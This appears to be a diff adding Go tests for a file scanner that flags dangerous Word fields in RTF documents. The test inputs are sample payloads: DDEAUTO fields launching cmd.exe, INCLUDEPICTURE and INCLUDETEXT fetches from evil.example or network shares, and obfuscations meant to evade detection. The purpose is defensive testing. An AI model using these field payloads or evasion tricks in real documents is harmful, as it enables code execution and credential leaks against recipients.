@@ -1,0 +1,84 @@
+package filetype
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestRTFFields: an RTF document's fields are Word's, and Word runs or
+// fetches them as it does a DOCX's: DDEAUTO runs a program,
+// INCLUDEPICTURE and INCLUDETEXT fetch from a share or the web, a
+// HYPERLINK may point at a share. Their codes are read as Word reads
+// them: split over groups with formatting, escaped as \'hh or \uN, with
+// \bin data before them, across the windows the document is read in, or
+// left open at its end. Before, only objects and templates were looked
+// for: an RTF (or a .doc that is one) with DDEAUTO was kept.
+func TestRTFFields(t *testing.T) {
+	const (
+		dde      = "office: external reference ddeauto field"
+		picture  = "office: external reference includepicture field"
+		text     = "office: external reference includetext field"
+		share    = "office: link to a network share (UNC path)"
+		notRead  = "office: fields not inspected"
+		rtfStart = `{\rtf1\ansi\ansicpg932\deff0{\fonttbl{\f0\fnil MS Mincho;}}`
+	)
+	var cases []classifyCase
+	for _, c := range []struct {
+		name, body string
+		finding    string
+	}{
+		{"DDEAUTO", `{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"}{\fldrslt x}}`, dde},
+		{"DDEAUTO in lower case, without \\*", `{\field{\fldinst ddeauto c:\\x.exe "/k"}}`, dde},
+		{"INCLUDEPICTURE split over formatted groups", `{\field{\*\fldinst {\rtlch\fcs1 \af0 \ltrch INCLU}{\rtlch DEPICTURE "\\\\\\\\192.0.2.1\\\\s\\\\a.png" \\d}}{\fldrslt }}`, picture},
+		{"a keyword escaped as \\'hh", `{\field{\*\fldinst \'49NCLUDEPICTURE "http://evil.example/a.png"}}`, picture},
+		{"a keyword escaped as \\uN", `{\field{\*\fldinst \u73?NCLUDETEXT "http://evil.example/a"}}`, text},
+		{"\\uN with two stand-ins", `{\uc2{\field{\*\fldinst \u68 ab\u68\'81\'82EAUTO x}}}`, dde},
+		{"\\bin data holding braces", `{\field{\*\fldinst {\*\x\bin2 }}}INCLUDETEXT "http://evil.example/a"}}`, text},
+		{"a bookmark before the keyword", `{\field{\*\fldinst {\*\bkmkstart a}{\*\bkmkend a}INCLUDETEXT "\\\\\\\\evil\\\\s\\\\t.docx"}}`, text},
+		{"a field inside another's code", `{\field{\*\fldinst QUOTE {\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png"}{\fldrslt }}}}`, picture},
+		{"text after a field inside another's code", `{\field{\*\fldinst INCLUDETEXT {\field{\*\fldinst PAGE}{\fldrslt 1}} "http://evil.example/a"}}`, text},
+		{"a keyword made by another field", `{\field{\*\fldinst {\field{\*\fldinst QUOTE "DDEAUTO"}{\fldrslt DDEAUTO}} calc}}`, notRead},
+		{"a field left open", `{\field{\*\fldinst {INCLUDETEXT "http://evil.example/a"`, text}, // the last "}" closes only "{INCLUDETEXT"
+		{"HYPERLINK to a share", `{\field{\*\fldinst HYPERLINK "\\\\\\\\evil.example\\\\s\\\\x.xlsx"}{\fldrslt open}}`, share},
+		{"past the first window", strings.Repeat(`{\b x}`, scanWindow/6+100) + `{\field{\*\fldinst DDEAUTO x}}`, dde},
+	} {
+		cases = append(cases, classifyCase{name: c.name, data: []byte(rtfStart + c.body + "}"), filename: "a.rtf",
+			class: ClassOffice, sniffed: "application/rtf", findings: []string{c.finding}})
+	}
+	for _, c := range []struct{ name, body string }{
+		{"HYPERLINK to the web, PAGE, a date", `{\field{\*\fldinst HYPERLINK "https://www.city.example.lg.jp/"}{\fldrslt \'8e\'73}}{\field{\*\fldinst PAGE}}{\field{\*\fldinst DATE \\@ "yyyy"}}`},
+		{"the words as text", `INCLUDEPICTURE DDEAUTO {\b INCLUDETEXT} {\*\datafield DDEAUTO}`},
+		{"a field's result", `{\field{\*\fldinst PAGE}{\fldrslt DDEAUTO x}}`},
+	} {
+		cases = append(cases, classifyCase{name: c.name, data: []byte(rtfStart + c.body + "}"), filename: "a.rtf",
+			class: ClassOffice, sniffed: "application/rtf", clean: true})
+	}
+	runClassify(t, cases)
+}
+
+// TestRTFWindows: a field code cut by the end of a window, at every
+// offset, is read whole.
+func TestRTFWindows(t *testing.T) {
+	field := `{\field{\*\fldinst DDEAUTO c:\\x.exe}}`
+	for cut := -len(field) - 2; cut <= 2; cut++ {
+		pad := scanWindow + cut - len(`{\rtf1 `)
+		doc := `{\rtf1 ` + strings.Repeat("a", pad) + field + "}"
+		var codes []string
+		s := rtfScanner{field: func(c string) { codes = append(codes, c) }}
+		scanStream(strings.NewReader(doc), int64(len(doc)), s.scan)
+		if len(codes) != 1 || !strings.HasPrefix(codes[0], "DDEAUTO ") {
+			t.Errorf("field cut at %d: codes %q", cut, codes)
+		}
+	}
+}
+
+// BenchmarkRTFScan reads a document of 8 MiB, most of it a picture's hex
+// digits, as Word saves a picture in RTF.
+func BenchmarkRTFScan(b *testing.B) {
+	doc := `{\rtf1{\field{\*\fldinst HYPERLINK "https://example.jp/"}{\fldrslt x}}{\pict\pngblip ` + strings.Repeat("89504e470d0a1a0a", 1<<20) + `}}`
+	b.SetBytes(int64(len(doc)))
+	for b.Loop() {
+		s := rtfScanner{field: func(string) {}}
+		scanStream(strings.NewReader(doc), int64(len(doc)), s.scan)
+	}
+}
